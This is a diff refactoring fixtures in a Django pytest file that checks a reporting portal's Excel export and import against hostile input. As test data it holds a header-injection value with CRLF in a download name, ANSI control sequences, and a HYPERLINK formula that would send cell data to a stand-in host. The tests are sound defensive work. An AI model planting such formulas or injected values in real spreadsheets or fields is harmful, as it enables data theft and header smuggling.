@@ -9,7 +9,7 @@ from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
 from indikator.models import Realisasi
-from portal.models import JendelaInput, UnitKerja
+from portal.models import JendelaInput
 from portal.xlsx import BATAS_SEL, LEMBAR_TEKS_LENGKAP, TANDA_TERPOTONG
 from tests.indikator.test_realisasi_views import TAHUN, indikator_unit, unit_url
 
@@ -23,13 +23,8 @@ def jendela_terbuka(db):
 
 
 @pytest.fixture
-def rehab(demo):
-    return UnitKerja.objects.get(opd=demo, nama="Bidang Rehabilitasi Sosial")
-
-
-@pytest.fixture
-def indikator(demo, rehab):
-    return indikator_unit(demo, rehab)
+def indikator(kantor):
+    return indikator_unit(kantor.opd, kantor.unit)
 
 
 def template_url(opd, unit):
@@ -37,8 +32,8 @@ def template_url(opd, unit):
                                                            "unit": unit.pk})
 
 
-def impor_url(opd, unit):
-    return reverse("indikator:realisasi_impor", kwargs={"opd": opd.pk, "tahun": TAHUN, "triwulan": 3,
+def impor_url(unit):
+    return reverse("indikator:realisasi_impor", kwargs={"opd": unit.opd_id, "tahun": TAHUN, "triwulan": 3,
                                                          "unit": unit.pk})
 
 
@@ -59,13 +54,11 @@ def _unggah(workbook):
     return buffer
 
 
-def test_control_characters_in_an_analysis_break_no_export_and_the_history_stays_readable(
-    client, users, demo, rehab, indikator
-):
+def test_control_characters_in_an_analysis_break_no_export_and_the_history_stays_readable(client, kantor, indikator):
     # (No NUL here: PostgreSQL cannot store one in text; the writer's own test covers it.)
     realisasi = _realisasi(indikator, "Naik\x0b tajam\x1b[31m karena\x08 bansos")
-    client.force_login(users["perencana"])
-    for url in (unit_url(demo, rehab) + "?format=xlsx", template_url(demo, rehab)):
+    client.force_login(kantor.perencana)
+    for url in (unit_url(kantor.opd, kantor.unit) + "?format=xlsx", template_url(kantor.opd, kantor.unit)):
         response = client.get(url)
         assert response.status_code == 200
         rows = list(load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows(min_row=2, values_only=True))
@@ -80,9 +73,9 @@ def test_control_characters_in_an_analysis_break_no_export_and_the_history_stays
     assert "Naik tajam[31m karena bansos" in cells
 
 
-def test_a_code_with_a_line_break_gives_a_valid_download_name(client, users, demo, rehab):
-    indikator = indikator_unit(demo, rehab, kode="IKU\r\n1\"; x=1")
-    client.force_login(users["perencana"])
+def test_a_code_with_a_line_break_gives_a_valid_download_name(client, kantor):
+    indikator = indikator_unit(kantor.opd, kantor.unit, kode="IKU\r\n1\"; x=1")
+    client.force_login(kantor.perencana)
     response = client.get(riwayat_url(indikator) + "?format=xlsx")
     assert response.status_code == 200
     header = response["Content-Disposition"]
@@ -90,55 +83,49 @@ def test_a_code_with_a_line_break_gives_a_valid_download_name(client, users, dem
     assert "\r" not in header and "\n" not in header
 
 
-def test_an_analysis_that_looks_like_a_formula_is_text_in_the_template_and_round_trips(
-    client, users, demo, rehab, indikator
-):
+def test_an_analysis_that_looks_like_a_formula_is_text_in_the_template_and_round_trips(client, kantor, indikator):
     teks = '=HYPERLINK("http://contoh.invalid/"&A2,"Lihat bukti")'
     _realisasi(indikator, teks)
-    client.force_login(users["operator"])
-    workbook = load_workbook(io.BytesIO(client.get(template_url(demo, rehab)).content))
+    client.force_login(kantor.operator)
+    workbook = load_workbook(io.BytesIO(client.get(template_url(kantor.opd, kantor.unit)).content))
     cell = workbook["Kinerja"]["F2"]
     assert cell.value == teks and cell.data_type == "s"
-    page = client.post(impor_url(demo, rehab), {"aksi": "pratinjau", "berkas": _unggah(workbook)}).content.decode()
+    page = client.post(impor_url(kantor.unit), {"aksi": "pratinjau", "berkas": _unggah(workbook)}).content.decode()
     assert "Berkas sah, tetapi tidak ada yang berubah." in page
 
 
-def test_a_long_analysis_is_cut_in_the_template_and_the_cut_text_is_never_stored_back(
-    client, users, demo, rehab, indikator
-):
+def test_a_long_analysis_is_cut_in_the_template_and_the_cut_text_is_never_stored_back(client, kantor, indikator):
     panjang = "Analisis capaian. " * 2500  # 45 000 characters
     _realisasi(indikator, panjang)
-    client.force_login(users["operator"])
-    workbook = load_workbook(io.BytesIO(client.get(template_url(demo, rehab)).content))
+    client.force_login(kantor.operator)
+    workbook = load_workbook(io.BytesIO(client.get(template_url(kantor.opd, kantor.unit)).content))
     cell = workbook["Kinerja"]["F2"].value
     assert len(cell) == BATAS_SEL and cell.endswith(TANDA_TERPOTONG)
     assert "".join(r[4] for r in workbook[LEMBAR_TEKS_LENGKAP].iter_rows(min_row=2, values_only=True)) == panjang
 
     # Uploaded back as downloaded: nothing changes, the stored text keeps all of its characters.
-    page = client.post(impor_url(demo, rehab), {"aksi": "pratinjau", "berkas": _unggah(workbook)}).content.decode()
+    page = client.post(impor_url(kantor.unit), {"aksi": "pratinjau", "berkas": _unggah(workbook)}).content.decode()
     assert "Berkas sah, tetapi tidak ada yang berubah." in page
 
     # The number is changed and the cut text edited: the row is refused, nothing is imported.
     workbook["Kinerja"]["E2"].value = 5
     workbook["Kinerja"]["F2"].value = "Tambahan. " + cell[len("Tambahan. "):]
-    page = client.post(impor_url(demo, rehab), {"aksi": "pratinjau", "berkas": _unggah(workbook)}).content.decode()
+    page = client.post(impor_url(kantor.unit), {"aksi": "pratinjau", "berkas": _unggah(workbook)}).content.decode()
     assert "Lembar Kinerja baris 2:" in page and "terpotong pada batas Excel (32.767 karakter)" in page
-    client.post(impor_url(demo, rehab), {"aksi": "simpan"})
+    client.post(impor_url(kantor.unit), {"aksi": "simpan"})
     saved = Realisasi.objects.get(indikator=indikator, triwulan=3)
     assert saved.analisis == panjang and saved.nilai == 4
 
 
-def test_a_realisasi_formula_without_a_stored_value_is_reported_and_nothing_is_imported(
-    client, users, demo, rehab, indikator
-):
+def test_a_realisasi_formula_without_a_stored_value_is_reported_and_nothing_is_imported(client, kantor, indikator):
     workbook = Workbook()
     kinerja = workbook.active
     kinerja.title = "Kinerja"
     kinerja.append(KINERJA)
     kinerja.append([indikator.kode, "", "", 5, "=2+2", "Analisis yang tidak boleh hilang diam-diam", ""])
     workbook.create_sheet("Anggaran").append(ANGGARAN)
-    client.force_login(users["operator"])
-    page = client.post(impor_url(demo, rehab), {"aksi": "pratinjau", "berkas": _unggah(workbook)}).content.decode()
+    client.force_login(kantor.operator)
+    page = client.post(impor_url(kantor.unit), {"aksi": "pratinjau", "berkas": _unggah(workbook)}).content.decode()
     assert ("Lembar Kinerja baris 2: Realisasi: nilai rumus tidak tersimpan; simpan ulang berkas di Excel atau "
             "ketik nilainya.") in page
     assert "Tidak ada yang diimpor" in page
